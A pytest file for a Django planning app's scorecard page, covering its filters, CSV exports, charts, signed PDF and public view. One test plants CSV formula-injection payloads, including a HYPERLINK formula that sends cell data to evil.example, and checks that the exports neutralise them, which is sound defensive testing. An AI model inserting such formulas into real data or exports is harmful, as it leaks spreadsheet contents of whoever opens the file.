"""The scorecard page of a plan, its filters, its CSV exports and its signed PDF."""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from documents.models import DocumentKind, DocumentStatus, SignedDocument
from documents.monitoring.models import IndicatorReading
from documents.monitoring.sparkline import sparkline
from documents.publishing import services, storage
from documents.services import version_create
from plangov import clock
from tests.conftest import World, make_plan
from tests.scorecard_data import add_readings, adopted_plan, indicator_content, month_periods

START = datetime.date(2020, 4, 1)


@pytest.fixture(autouse=True)
def document_dir(settings: Any, tmp_path: Path) -> Path:
    settings.PLANGOV_DOCUMENT_DIR = tmp_path / "documents"
    return settings.PLANGOV_DOCUMENT_DIR


def page(client: Any, plan: Any, **params: str) -> Any:
    return client.get(reverse("scorecard:page", args=[plan.pk]), params)


def body_text(response: Any) -> str:
    return response.content.decode()


def csv_rows(response: Any) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


# The page.


def test_the_page_shows_every_indicator_with_latest_trend_rag_and_chart(
        world: World, client: Any) -> None:
    plan = adopted_plan(world, indicators=6, months=24)
    client.force_login(world.lead)
    response = page(client, plan)
    assert response.status_code == 200
    html = body_text(response)
    # The summary sentence at the top, computed from the readings.
    sentence = re.search(r"Of \d+ indicators where a trend can be identified, \d+ ha(ve|s) "
                         r"improved \(\d+%\)\.", html)
    assert sentence is not None and html.index(sentence.group()) < html.index("<table")
    assert html.count('id="indicator-ind-') == 6
    # Latest reading and its period; trend glyph with the word for screen readers; RAG tag.
    assert "Mar 2022" in html
    assert re.search(r'<span aria-hidden="true">[▲▼►–]</span><span class="govuk-visually-'
                     r'hidden">(Improved|Worse|No change|Not comparable)</span>', html)
    assert re.search(r'<strong class="govuk-tag govuk-tag--(green|orange|red|grey)">'
                     r'(Green|Amber|Red|No target|No reading)</strong>', html)
    # A chart per indicator, labelled by its title and description, and its figures as a
    # table with a caption, one row per reading.
    assert html.count('<svg xmlns="http://www.w3.org/2000/svg" role="img"') == 6
    assert 'aria-labelledby="chart-ind-000-title chart-ind-000-desc"' in html
    assert 'id="chart-ind-000-title"' in html and 'id="chart-ind-000-desc"' in html
    assert "Readings of Indicator 000" in html
    assert html.count('<th scope="row" class="govuk-table__header">Apr 2020</th>') == 6
    assert "style=" not in html.split("<main", 1)[1]  # CSP: no inline style


def test_the_plan_page_links_to_the_scorecard_once_adopted(world: World, client: Any) -> None:
    client.force_login(world.lead)
    adopted = adopted_plan(world, indicators=1)
    draft = make_plan(world)
    link = reverse("scorecard:page", args=[adopted.pk])
    assert link in body_text(client.get(reverse("workflows:plan", args=[adopted.pk])))
    assert "/scorecard/" not in body_text(client.get(reverse("workflows:plan", args=[draft.pk])))


def test_a_plan_not_adopted_has_no_scorecard_yet(world: World, client: Any) -> None:
    plan = make_plan(world)
    client.force_login(world.lead)
    response = page(client, plan)
    assert response.status_code == 200
    assert "has not been adopted yet" in body_text(response)
    assert client.get(reverse("scorecard:csv", args=[plan.pk])).status_code == 409


def test_only_those_who_may_see_the_plan_see_its_scorecard(world: World, client: Any) -> None:
    plan = adopted_plan(world, indicators=2, months=3)
    client.force_login(world.outsider)
    assert page(client, plan).status_code == 404
    assert client.get(reverse("scorecard:csv", args=[plan.pk])).status_code == 404
    client.force_login(world.auditor)
    assert page(client, plan).status_code == 200
    client.logout()
    assert page(client, plan).status_code == 302  # to sign in


def test_filters_by_outcome_and_rag_work_without_javascript(world: World, client: Any) -> None:
    plan = adopted_plan(world, indicators=10, months=12)
    client.force_login(world.lead)
    html = body_text(page(client, plan, outcome="safe"))
    shown = re.findall(r'id="indicator-(ind-\d+)"', html)
    assert shown == ["ind-001", "ind-006"]  # every fifth, from the second
    assert "2 of 10 indicators, matching the filters" in html
    assert 'id="shown-summary"' in html
    # The form is a GET form with labelled selects, and keeps the choice.
    assert '<form method="get"' in html
    assert '<label class="govuk-label govuk-label--s" for="id_outcome">Outcome</label>' in html
    assert '<label class="govuk-label govuk-label--s" for="id_rag">RAG status</label>' in html
    assert '<option value="safe" selected>' in html
    red = re.findall(r'id="indicator-(ind-\d+)"', body_text(page(client, plan, rag="red")))
    no_target = re.findall(r'id="indicator-(ind-\d+)"',
                           body_text(page(client, plan, rag="no_target")))
    assert no_target == ["ind-006"]  # content: every seventh indicator has no target
    assert red and not set(red) & set(no_target)
    both = re.findall(r'id="indicator-(ind-\d+)"',
                      body_text(page(client, plan, outcome="safe", rag="no_target")))
    assert both == ["ind-006"]
    # The CSV exports follow the filters.
    lines = csv_rows(client.get(reverse("scorecard:csv", args=[plan.pk]), {"outcome": "safe"}))
    assert [line[0] for line in lines[1:]] == ["ind-001", "ind-006"]


def test_an_unknown_filter_is_a_400_naming_the_field(world: World, client: Any) -> None:
    plan = adopted_plan(world, indicators=2, months=2)
    client.force_login(world.lead)
    response = page(client, plan, outcome="nope", rag="purple")
    assert response.status_code == 400
    html = body_text(response)
    assert 'class="govuk-error-summary"' in html
    assert 'href="#id_outcome"' in html and 'href="#id_rag"' in html
    assert 'id="indicator-' not in html
    csv_response = client.get(reverse("scorecard:csv", args=[plan.pk]), {"rag": "purple"})
    assert csv_response.status_code == 400
    assert b"RAG status" in csv_response.content


def test_same_query_count_for_2_and_200_indicators(world: World, client: Any) -> None:
    small = adopted_plan(world, indicators=2, months=24)
    large = adopted_plan(world, indicators=200, months=24, start=START)
    client.force_login(world.lead)
    client.get(reverse("workflows:plan", args=[small.pk]))  # warm: session, content types
    counts = {}
    for name, plan in (("two", small), ("many", large)):
        # The first view renders the rows; the next ones read them from the cache.
        for view in ("cold", "warm"):
            with CaptureQueriesContext(connection) as captured:
                response = page(client, plan)
            assert response.status_code == 200
            counts[name, view] = [q["sql"] for q in captured.captured_queries]
    assert body_text(response).count('id="indicator-ind-') == 200
    assert len(counts["many", "cold"]) == len(counts["two", "cold"]), counts["many", "cold"]
    assert len(counts["many", "warm"]) == len(counts["two", "warm"]), counts["many", "warm"]
    assert len(counts["two", "warm"]) <= 10
    # Filtered, the same again.
    with CaptureQueriesContext(connection) as filtered:
        page(client, large, outcome="safe", rag="red")
    assert len(filtered) == len(counts["two", "warm"])


def test_a_new_reading_or_a_correction_shows_at_once(world: World, client: Any) -> None:
    from documents.monitoring.services import reading_record

    plan = adopted_plan(world, indicators=1, months=2)
    client.force_login(world.lead)
    assert "May 2020" in body_text(page(client, plan))
    june = reading_record(
        plan=plan, indicator_key="ind-000", value=61.5, period_label="June 2020",
        period_start=datetime.date(2020, 6, 1), period_end=datetime.date(2020, 6, 30),
        measured_on=datetime.date(2020, 7, 20), actor=world.lead)
    assert "June 2020" in body_text(page(client, plan))  # not the cached rows
    # A correction supersedes the reading: a new row, so a new state.
    reading_record(
        plan=plan, indicator_key="ind-000", value=77.7, period_label="June 2020",
        period_start=datetime.date(2020, 6, 1), period_end=datetime.date(2020, 6, 30),
        measured_on=datetime.date(2020, 7, 21), actor=world.lead, corrects=june.pk,
        reason="Typing error")
    assert "77.7 pupils" in body_text(page(client, plan))
    # An edit in place (the admin) changes the sum of the values.
    IndicatorReading.objects.filter(plan=plan, value=77.7).update(value=66.6)
    assert "66.6 pupils" in body_text(page(client, plan))


# CSV.


def test_csv_has_one_line_per_indicator_with_latest_trend_and_rag(
        world: World, client: Any) -> None:
    plan = adopted_plan(world, indicators=3, months=2)
    client.force_login(world.lead)
    response = client.get(reverse("scorecard:csv", args=[plan.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="scorecard-{plan.pk}-' in response["Content-Disposition"]
    lines = csv_rows(response)
    assert lines[0][:3] == ["Indicator key", "Indicator", "Outcome"]
    assert [line[0] for line in lines[1:]] == ["ind-000", "ind-001", "ind-002"]
    first = dict(zip(lines[0], lines[1], strict=True))
    reading = IndicatorReading.objects.get(plan=plan, indicator_key="ind-000",
                                           period_label="May 2020")
    assert first["Latest period"] == "May 2020"
    assert first["Latest period end"] == "2020-05-31"
    assert float(first["Latest value"]) == reading.value
    assert first["Previous period"] == "Apr 2020"
    assert first["Trend since previous reading"] in {"Improved", "Worse", "No change"}
    assert first["RAG"] in {"Green", "Amber", "Red"}
    assert first["Direction of good"] == "lower" and first["Target"] == "40.0"

    readings = csv_rows(client.get(reverse("scorecard:readings-csv", args=[plan.pk])))
    assert len(readings) == 1 + 3 * 2
    assert readings[1][:5] == ["ind-000", first["Indicator"], "Being healthy", "pupils",
                               "Apr 2020"]


def test_csv_cells_cannot_run_as_formulas(world: World, client: Any) -> None:
    plan = make_plan(world)
    content = indicator_content(1)
    content["indicators"][0]["title"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    content["indicators"][0]["unit"] = "+cmd"
    version = version_create(plan=plan, actor=world.lead, content=content)
    type(plan).objects.filter(pk=plan.pk).update(stage="adopted", adopted_version=version)
    plan.refresh_from_db()
    add_readings(plan, world.lead, indicators=1, months=2, start=START)
    IndicatorReading.objects.filter(plan=plan, period_label="May 2020").update(
        period_label="@SUM(A1:A9)", value=-3.5)
    client.force_login(world.lead)
    lines = csv_rows(client.get(reverse("scorecard:csv", args=[plan.pk])))
    row = dict(zip(lines[0], lines[1], strict=True))
    assert row["Indicator"].startswith("'=HYPERLINK")
    assert row["Unit"] == "'+cmd"
    assert row["Latest period"] == "'@SUM(A1:A9)"
    assert row["Latest value"] == "-3.5"  # numbers stay numbers
    readings = csv_rows(client.get(reverse("scorecard:readings-csv", args=[plan.pk])))
    assert readings[2][1].startswith("'=") and readings[2][4] == "'@SUM(A1:A9)"
    assert readings[2][7] == "-3.5"


# The chart.


def test_the_chart_is_pure_escaped_and_has_no_style() -> None:
    series = [("Apr 2020", datetime.date(2020, 4, 30), 10.0),
              ("<May>", datetime.date(2020, 5, 31), 12.5)]
    one = sparkline("A & B", series, unit="%", target=15.0, chart_id="k")
    assert one == sparkline("A & B", series, unit="%", target=15.0, chart_id="k")
    assert "style" not in one and "<May>" not in one and "&lt;May&gt;" in one
    assert "A &amp; B" in one and 'stroke-dasharray="3 2"' in one
    assert "2 readings from Apr 2020 (10%) to &lt;May&gt; (12.5%)" in one
    empty = sparkline("Nothing", [], chart_id="e")
    assert "no readings yet" in empty and "<polyline" not in empty


# The signed PDF.


def test_the_scorecard_pdf_is_requested_rendered_signed_and_verifies(
        world: World, client: Any) -> None:
    plan = adopted_plan(world, indicators=8, months=36)
    client.force_login(world.lead)
    html = body_text(page(client, plan))
    assert 'name="kind" value="scorecard"' in html
    response = client.post(reverse("documents:ask", args=[plan.pk]), {"kind": "scorecard"})
    assert response.status_code == 302
    document = SignedDocument.objects.get(plan=plan, kind=DocumentKind.SCORECARD)
    assert document.key.startswith(f"plan/{plan.pk}/scorecard/")
    assert document.version_id == plan.adopted_version_id
    assert services.document_render(document_id=document.pk) == "done"
    document.refresh_from_db()
    assert document.status == DocumentStatus.DONE
    data = storage.read(document.file_sha256)
    result = services.document_verify(data=data)
    assert result["verdict"] == "valid" and result["matches_record"] is True
    assert result["document"]["key"] == document.key
    with pikepdf.open(io.BytesIO(data)) as pdf:
        with pdf.open_metadata() as meta:
            assert meta.get("pdfaid:part") == "3"
            assert meta.get("dc:title").startswith("Scorecard: Children and Young People")
        text = b"".join(page.obj.get("/Contents").read_bytes() for page in pdf.pages
                        if "/Contents" in page.obj)
        assert text  # laid out
    assert document.page_count >= 2
    # Asking again for the same readings: the same document, the same bytes.
    again = services.document_request(plan=plan, actor=world.lead, kind=DocumentKind.SCORECARD)
    assert again.pk == document.pk and storage.read(again.file_sha256) == data
    assert plan.audit_events.filter(action="document.request").count() == 1
    # A new reading makes a new scorecard.
    add_readings_after(plan, world)
    newer = services.document_request(plan=plan, actor=world.lead, kind=DocumentKind.SCORECARD)
    assert newer.pk != document.pk and newer.key != document.key


def add_readings_after(plan: Any, world: World) -> None:
    label, first, last = month_periods(datetime.date(2023, 4, 1), 1)[0]
    IndicatorReading.objects.create(
        plan=plan, indicator_key="ind-000", value=1.0, period_label=label, period_start=first,
        period_end=last, measured_on=last, entered_by=world.lead, entered_at=clock.now())


def test_a_scorecard_pdf_whose_readings_changed_before_rendering_is_refused(
        world: World) -> None:
    plan = adopted_plan(world, indicators=2, months=3)
    document = services.document_request(plan=plan, actor=world.lead,
                                         kind=DocumentKind.SCORECARD)
    add_readings_after(plan, world)
    assert services.document_render(document_id=document.pk) == "failed"
    document.refresh_from_db()
    assert "Readings changed after this scorecard was asked for" in document.error
    assert document.incident_at is None  # not a fault of ours


def test_only_an_adopted_plan_has_a_scorecard_pdf(world: World) -> None:
    from plangov.errors import Conflict

    plan = make_plan(world)
    with pytest.raises(Conflict):
        services.document_request(plan=plan, actor=world.lead, kind=DocumentKind.SCORECARD)


# The public site.


def test_an_adopted_plans_scorecard_is_on_the_public_site(world: World, client: Any) -> None:
    plan = adopted_plan(world, indicators=5, months=12)
    draft = make_plan(world)
    home = body_text(client.get(reverse("public:home", args=[world.partnership.slug])))
    url = reverse("public:scorecard", args=[world.partnership.slug, plan.pk])
    assert url in home
    response = client.get(url)  # nobody signed in
    assert response.status_code == 200
    html = body_text(response)
    assert html.count('id="indicator-ind-') == 5
    assert "where a trend can be identified" in html
    assert "scorecard.csv" not in html and 'value="scorecard"' not in html  # no exports
    filtered = body_text(client.get(url, {"outcome": "healthy"}))
    assert re.findall(r'id="indicator-(ind-\d+)"', filtered) == ["ind-000"]
    assert client.get(url, {"rag": "purple"}).status_code == 400
    assert client.get(reverse("public:scorecard", args=[world.partnership.slug, draft.pk])
                      ).status_code == 404
    assert client.get(reverse("public:scorecard", args=["elsewhere", plan.pk])
                      ).status_code == 404
